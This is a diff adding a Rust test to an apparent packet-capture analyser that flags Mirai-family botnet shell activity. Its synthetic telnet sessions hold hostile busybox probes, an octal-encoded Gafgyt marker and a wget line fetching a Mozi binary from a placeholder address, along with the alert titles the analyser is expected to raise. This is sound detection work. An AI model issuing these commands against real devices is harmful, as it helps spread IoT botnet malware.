@@ -570,3 +570,67 @@ fn a_bogus_record_length_ends_reading_with_a_clear_reason() {
         "the bogus record is reported: {end:?}"
     );
 }
+
+#[test]
+fn family_cues_and_variant_probe_words_are_named() {
+    let device = (ip("192.0.2.90"), 23);
+    let mut cap = Capture::default();
+    tcp_session(
+        &mut cap,
+        (ip("10.0.0.90"), 40_900),
+        device,
+        &[
+            (false, b"# "),
+            (
+                true,
+                b"/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'\r\n",
+            ),
+            (
+                true,
+                b"/bin/busybox wget; /bin/busybox tftp; /bin/busybox HGYQA\r\n",
+            ),
+            (
+                true,
+                b">/tmp/.x&&cd /tmp;>/var/.x&&cd /var; wget http://192.0.2.1:8080/Mozi.m\r\n",
+            ),
+            // A variant's probe word, split across segments; and another.
+            (true, b"enable\r\n/bin/busybox BOT"),
+            (true, b"NET\r\n/bin/busybox PARALYSIS; /bin/busybox ps\r\n"),
+        ],
+        T0,
+    );
+    // Near misses: an applet in lower case, a mixed-case word, one too short, one that
+    // goes on in lower case.
+    tcp_session(
+        &mut cap,
+        (ip("10.0.0.91"), 40_901),
+        device,
+        &[(
+            true,
+            b"/bin/busybox ls; /bin/busybox Abcde; /bin/busybox X1; /bin/busybox BOTNETx\r\n",
+        )],
+        T0 + 1.0,
+    );
+    let (r, _) = analyse(cap.bytes());
+    let titles: Vec<&str> = r.alerts.iter().map(|a| a.title.as_str()).collect();
+    assert_eq!(
+        titles,
+        [
+            "Mirai-family shell content: Gafgyt probe (gayfgt in octal)",
+            "Mirai-family shell content: Mozi binary (MIPS)",
+            "Mirai-family shell content: Mozi writable-directory probe",
+            "Mirai-family shell content: Satori download-method probe",
+            "Mirai-family shell content: unknown-applet probe of a variant (BOTNET, PARALYSIS)",
+        ]
+    );
+    assert!(r
+        .alerts
+        .iter()
+        .all(|a| a.src == IpAddr::V4(ip("10.0.0.90"))));
+    let probe = &r.alerts[4];
+    assert_eq!(probe.count, 2);
+    // BOTNET is complete in the segment with NET (handshake 3, then 5 turns: frame 9).
+    assert_eq!(probe.evidence[0].packet, 9);
+    assert_eq!(probe.evidence[0].matched, "/bin/busybox BOTNET");
+    assert_eq!(probe.evidence[1].matched, "/bin/busybox PARALYSIS");
+}
